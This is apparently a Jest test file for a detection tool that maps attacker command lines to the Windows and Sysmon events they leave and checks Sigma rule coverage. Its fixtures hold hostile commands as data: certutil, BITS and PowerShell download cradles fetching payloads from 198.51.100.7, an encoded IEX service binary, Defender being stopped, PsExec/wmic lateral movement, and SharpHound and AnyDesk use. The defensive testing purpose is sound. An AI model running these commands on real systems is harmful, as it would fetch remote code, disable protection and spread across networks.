import { CorpusCoverage } from './corpus-coverage';
import { observableEvents } from './observable-events';

const eventsOf = (value: string, product = 'windows') =>
  observableEvents([{ type: 'cmdline', value }], { product }).map(({ event }) => event);
const withId = (events: Array<Record<string, unknown>>, id: number) => events.filter((event) => event['EventID'] === id);

describe('the shell a Windows line ran in', () => {
  it("records a built-in's line as cmd.exe's own, never as a program named after the built-in", () => {
    const processes = withId(eventsOf('copy C:\\ProgramData\\a.dll \\\\FS01\\C$\\ProgramData\\'), 1);
    expect(processes).toContainEqual(
      expect.objectContaining({
        Image: 'C:\\Windows\\System32\\cmd.exe',
        OriginalFileName: 'Cmd.Exe',
        CommandLine: 'C:\\Windows\\system32\\cmd.exe /C copy C:\\ProgramData\\a.dll \\\\FS01\\C$\\ProgramData\\',
      }),
    );
    expect(processes.map((event) => event['Image'])).not.toContain('C:\\Windows\\System32\\copy.exe');
  });

  it('keeps a program both without a parent and as the child of the cmd.exe /C an operator ran it through', () => {
    const processes = withId(eventsOf('nltest /dclist:corp.example'), 1);
    expect(processes).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ Image: 'C:\\Windows\\System32\\nltest.exe', CommandLine: 'nltest /dclist:corp.example' }),
        expect.objectContaining({
          Image: 'C:\\Windows\\System32\\nltest.exe',
          ParentImage: 'C:\\Windows\\System32\\cmd.exe',
          ParentCommandLine: 'C:\\Windows\\system32\\cmd.exe /C nltest /dclist:corp.example',
        }),
      ]),
    );
    // A line that starts a shell itself gets no second one, and a Linux line none at all.
    expect(
      withId(eventsOf('cmd.exe /c whoami'), 1).filter((event) =>
        String(event['CommandLine']).startsWith('C:\\Windows\\system32\\cmd.exe /C'),
      ),
    ).toEqual([]);
    expect(withId(eventsOf('id', 'linux'), 1).map((event) => event['Image'])).toEqual(['/usr/bin/id']);
  });
});

describe('what Sysmon records about the program and its account', () => {
  it('runs bare PowerShell, WMIC and .NET tool names from the folders Windows finds them in', () => {
    const image = (line: string) => eventsOf(line)[0]?.['Image'];
    expect(image('powershell -nop -c Get-Date')).toBe('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe');
    expect(image('wmic os get caption')).toBe('C:\\Windows\\System32\\wbem\\wmic.exe');
    expect(image('msbuild.exe C:\\Users\\Public\\p.xml')).toBe('C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\msbuild.exe');
    expect(image('whoami /groups')).toBe('C:\\Windows\\System32\\whoami.exe');
  });

  it("carries an operator's elevated session, and SYSTEM for what a service or psexec -s runs", () => {
    expect(eventsOf('whoami /groups')[0]).toEqual(expect.objectContaining({ User: 'CONTOSO\\user', IntegrityLevel: 'High' }));
    const serviceChild = withId(eventsOf('sc create upd binPath= "C:\\ProgramData\\upd.exe" start= auto'), 1).find(
      (event) => event['ParentImage'] === 'C:\\Windows\\System32\\services.exe',
    );
    expect(serviceChild).toEqual(expect.objectContaining({ User: 'NT AUTHORITY\\SYSTEM', LogonId: '0x3e7', IntegrityLevel: 'System' }));
    const psexecChild = withId(eventsOf('PsExec.exe \\\\FS01 -s -accepteula cmd /c ipconfig'), 1).find(
      (event) => event['ParentImage'] === 'C:\\Windows\\PSEXESVC.exe',
    );
    expect(psexecChild).toEqual(expect.objectContaining({ User: 'NT AUTHORITY\\SYSTEM' }));
  });

  it("names a known tool's version resource and leaves an unknown tool's alone", () => {
    expect(eventsOf('curl.exe -s https://example.org/')[0]).toEqual(expect.objectContaining({ Product: 'The curl executable' }));
    expect(eventsOf('C:\\ProgramData\\advanced_ip_scanner.exe /portable')[0]).toEqual(
      expect.objectContaining({ Description: 'Advanced IP Scanner' }),
    );
    expect(eventsOf('C:\\Tools\\sync.exe --all')[0]).not.toHaveProperty('Product');
  });
});

describe('what a relayed command does where it runs', () => {
  it("records the programs and downloads of a task's action, with the action's account", () => {
    const events = eventsOf(
      'schtasks /create /ru SYSTEM /tn Upd /sc onstart /tr "cmd /c certutil -urlcache -f http://198.51.100.7/a.exe C:\\ProgramData\\a.exe"',
    );
    expect(withId(events, 1)).toContainEqual(
      expect.objectContaining({
        Image: 'C:\\Windows\\System32\\certutil.exe',
        ParentImage: 'C:\\Windows\\System32\\cmd.exe',
        User: 'NT AUTHORITY\\SYSTEM',
      }),
    );
    expect(withId(events, 11)).toContainEqual(expect.objectContaining({ TargetFilename: 'C:\\ProgramData\\a.exe' }));
  });

  it('starts what wmic asks WMI for under WmiPrvSE.exe only, not as a child of wmic.exe', () => {
    const processes = withId(eventsOf('wmic /node:10.0.0.5 process call create "cmd.exe /c whoami"'), 1);
    const whoami = processes.filter((event) => event['Image'] === 'C:\\Windows\\System32\\whoami.exe');
    expect(whoami.map((event) => event['ParentImage'])).toEqual(['C:\\Windows\\System32\\cmd.exe']);
  });
});

describe("a remote operation's records on its target", () => {
  it('logs the share connection and the file written for a copy to an administrative share', () => {
    const events = eventsOf('copy C:\\ProgramData\\a.dll \\\\FS01\\C$\\ProgramData\\');
    expect(withId(events, 5140)).toEqual([expect.objectContaining({ ShareName: '\\\\*\\C$', ShareLocalPath: '\\??\\C:\\' })]);
    expect(withId(events, 5145)).toEqual([expect.objectContaining({ RelativeTargetName: 'ProgramData\\a.dll', AccessMask: '0x2' })]);
    expect(withId(events, 11)).toContainEqual(expect.objectContaining({ Image: 'System', TargetFilename: 'C:\\ProgramData\\a.dll' }));
    expect(withId(events, 4624)).toEqual([expect.objectContaining({ LogonType: 3 })]);
  });

  it('opens the RPC pipe of the manager a command drives on another host', () => {
    const pipes = (line: string) => withId(eventsOf(line), 5145).map((event) => event['RelativeTargetName']);
    expect(pipes('sc \\\\FS01 create upd binPath= "C:\\Windows\\upd.exe"')).toEqual(['svcctl']);
    expect(pipes('schtasks /create /s FS01 /tn Upd /tr C:\\Windows\\upd.exe /sc once /st 00:00')).toEqual(['atsvc']);
    expect(pipes('reg query \\\\FS01\\HKLM\\Software')).toEqual(['winreg']);
    expect(pipes('PsExec.exe \\\\FS01 -accepteula cmd')).toEqual(
      expect.arrayContaining(['PSEXESVC.exe', 'svcctl', 'PSEXESVC-WS01-4242-stdin', 'PSEXESVC-WS01-4242-stderr']),
    );
    // Local operations reach no other host.
    expect(pipes('sc create upd binPath= "C:\\Windows\\upd.exe"')).toEqual([]);
    expect(pipes('copy a.txt b.txt')).toEqual([]);
  });

  it('records credentials given for another host, a new-credentials logon, remoting and RDP', () => {
    expect(withId(eventsOf('net use \\\\FS01\\IPC$ /user:CORP\\admin Passw0rd'), 4648)).toEqual([
      expect.objectContaining({ TargetUserName: 'admin', TargetServerName: 'FS01', ProcessName: 'C:\\Windows\\System32\\net.exe' }),
    ]);
    expect(withId(eventsOf('runas /netonly /user:CORP\\admin cmd.exe'), 4624)).toEqual([
      expect.objectContaining({ LogonType: 9, LogonProcessName: 'seclogo' }),
    ]);
    const remoting = eventsOf('Invoke-Command -ComputerName FS01 -ScriptBlock {hostname}');
    expect(withId(remoting, 3)).toContainEqual(expect.objectContaining({ DestinationPort: 5985, DestinationHostname: 'FS01' }));
    expect(withId(remoting, 1)).toContainEqual(expect.objectContaining({ Image: expect.stringMatching(/\\wsmprovhost\.exe$/) }));
    expect(withId(eventsOf('mstsc /v:10.0.0.7'), 3)).toEqual([
      expect.objectContaining({ DestinationPort: 3389, DestinationIp: '10.0.0.7' }),
    ]);
  });
});

describe("a service's state and a BITS job", () => {
  it('logs a stopped or disabled service under its display name, and the Start value written', () => {
    expect(withId(eventsOf('net stop WinDefend'), 7036)).toEqual([
      expect.objectContaining({ param1: 'Windows Defender Antivirus Service', param2: 'stopped' }),
    ]);
    const disabled = eventsOf('sc config Sense start= disabled');
    expect(withId(disabled, 7040)).toEqual([expect.objectContaining({ param3: 'disabled', param4: 'Sense' })]);
    expect(withId(disabled, 13)).toContainEqual(
      expect.objectContaining({ TargetObject: 'HKLM\\System\\CurrentControlSet\\Services\\Sense\\Start', Details: 'DWORD (0x00000004)' }),
    );
    expect(withId(eventsOf('sc query Sense'), 7036)).toEqual([]);
  });

  it('records a BITS download in the BITS client log and the file the BITS service writes', () => {
    const events = eventsOf('Start-BitsTransfer -Source http://198.51.100.7/p.dll -Destination C:\\Users\\Public\\p.dll');
    const bits = events.filter((event) => event['Channel'] === 'Microsoft-Windows-Bits-Client/Operational');
    expect(bits).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ EventID: 3, processPath: expect.stringMatching(/powershell\.exe$/) }),
        expect.objectContaining({ EventID: 16403, RemoteName: 'http://198.51.100.7/p.dll', LocalName: 'C:\\Users\\Public\\p.dll' }),
      ]),
    );
    expect(withId(events, 11)).toContainEqual(expect.objectContaining({ Image: 'C:\\Windows\\System32\\svchost.exe' }));
  });

  it('writes the file WebClient.DownloadFile is given', () => {
    const events = eventsOf(
      `powershell -c "(New-Object Net.WebClient).DownloadFile('http://198.51.100.7/a.exe','C:\\ProgramData\\a.exe')"`,
    );
    expect(withId(events, 11)).toEqual([expect.objectContaining({ TargetFilename: 'C:\\ProgramData\\a.exe' })]);
  });
});

describe('coverage over the new records', () => {
  const rule = (logsource: string, selection: string) =>
    `title: T\nlogsource: {${logsource}}\ndetection:\n  sel:\n${selection}\n  condition: sel\n`;

  it("names Security and BITS-log rules on the records they read, and not on a Sysmon connection's EventID 3", () => {
    const coverage = new CorpusCoverage<string>();
    coverage.add(rule('product: windows, service: security', '    EventID: 5145\n    RelativeTargetName: svcctl'), 'svcctl');
    coverage.add(rule('product: windows, service: bits-client', "    EventID: 3\n    processPath|endswith: '\\bitsadmin.exe'"), 'bits');
    const named = (line: string) =>
      coverage.cover([{ type: 'cmdline', value: line }], { product: 'windows' }).flatMap((entry) => entry.rules);
    expect(named('sc \\\\FS01 stop WinDefend')).toEqual(['svcctl']);
    expect(named('bitsadmin /transfer j /download http://198.51.100.7/a.exe C:\\Users\\Public\\a.exe')).toEqual(['bits']);
    // bitsadmin's own network connection (Sysmon 3) is no BITS job.
    expect(named('certutil -urlcache -f http://198.51.100.7/a.exe C:\\Users\\Public\\a.exe')).toEqual([]);
  });
});

describe('traces of well-known tools', () => {
  it("writes a BloodHound collector's JSON files and zip where it is told, or in the working directory", () => {
    const written = (line: string) => withId(eventsOf(line), 11).map((event) => String(event['TargetFilename']));
    expect(written('SharpHound.exe -c all --outputdirectory C:\\ProgramData\\out')).toContainEqual(
      expect.stringMatching(/^C:\\ProgramData\\out\\\d+_BloodHound\.zip$/),
    );
    expect(written('Invoke-BloodHound -CollectionMethod All')).toContainEqual(expect.stringMatching(/^C:\\Users\\user\\\d+_users\.json$/));
    expect(written('whoami /all')).toEqual([]);
  });

  it("looks up a remote-access tool's relay from the tool itself, and registers its service when it installs", () => {
    const events = eventsOf('AnyDesk.exe --install "C:\\Program Files (x86)\\AnyDesk" --silent');
    expect(withId(events, 22)).toContainEqual(
      expect.objectContaining({ Image: 'C:\\Users\\user\\AnyDesk.exe', QueryName: expect.stringMatching(/\.net\.anydesk\.com$/) }),
    );
    expect(withId(events, 7045)).toEqual([expect.objectContaining({ ServiceName: 'AnyDesk Service' })]);
    expect(withId(eventsOf('AnyDesk.exe --get-id'), 7045)).toEqual([]);
    expect(withId(eventsOf('ngrok.exe tcp 3389'), 3)).toContainEqual(
      expect.objectContaining({ DestinationHostname: 'tunnel.us.ngrok.com' }),
    );
  });
});

describe('a line that names a script, and an installed service', () => {
  it('runs a batch, VBScript or package file with the program Windows associates with it', () => {
    const first = (line: string) => eventsOf(line)[0];
    expect(first('C:\\ProgramData\\x.bat')).toEqual(
      expect.objectContaining({
        Image: 'C:\\Windows\\system32\\cmd.exe',
        CommandLine: 'C:\\Windows\\system32\\cmd.exe /c ""C:\\ProgramData\\x.bat""',
      }),
    );
    expect(first('C:\\Users\\Public\\u.vbs /q')).toEqual(
      expect.objectContaining({
        Image: 'C:\\Windows\\System32\\WScript.exe',
        CommandLine: '"C:\\Windows\\System32\\WScript.exe" "C:\\Users\\Public\\u.vbs" /q',
      }),
    );
    expect(first('C:\\ProgramData\\agent.exe /q')).toEqual(expect.objectContaining({ Image: 'C:\\ProgramData\\agent.exe' }));
  });

  it("starts an installed service's binary under services.exe as SYSTEM, with the code an encoded PowerShell runs", () => {
    const code = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')";
    const encoded = Buffer.from(code, 'utf16le').toString('base64');
    const events = observableEvents(
      [
        {
          type: 'service',
          value: 'a1b2c3',
          attributes: { binary_path: `%COMSPEC% /b /c start /b /min powershell -nop -w hidden -enc ${encoded}` },
        },
      ],
      { product: 'windows' },
    ).map(({ event }) => event);
    expect(withId(events, 1)).toContainEqual(
      expect.objectContaining({
        CommandLine: expect.stringMatching(/^C:\\Windows\\system32\\cmd\.exe \/b \/c start/),
        ParentImage: 'C:\\Windows\\System32\\services.exe',
        User: 'NT AUTHORITY\\SYSTEM',
      }),
    );
    expect(withId(events, 4104)).toEqual([expect.objectContaining({ ScriptBlockText: code })]);
    // The decoded code's download reaches its host, from PowerShell.
    expect(withId(events, 3)).toContainEqual(
      expect.objectContaining({ DestinationIp: '198.51.100.7', Image: expect.stringMatching(/powershell\.exe$/) }),
    );
  });
});

describe('a parent → child pair', () => {
  it("runs what services.exe or PsExec's service starts as SYSTEM, and other children as the operator", () => {
    const child = (pair: string) => observableEvents([{ type: 'process_lineage', value: pair }], { product: 'windows' })[0]?.event;
    expect(child('services.exe -> cmd.exe')).toEqual(expect.objectContaining({ User: 'NT AUTHORITY\\SYSTEM', LogonId: '0x3e7' }));
    expect(child('PSEXESVC.exe -> powershell.exe')).toEqual(expect.objectContaining({ User: 'NT AUTHORITY\\SYSTEM' }));
    expect(child('explorer.exe -> cmd.exe')).toEqual(expect.objectContaining({ User: 'CONTOSO\\user' }));
  });
});
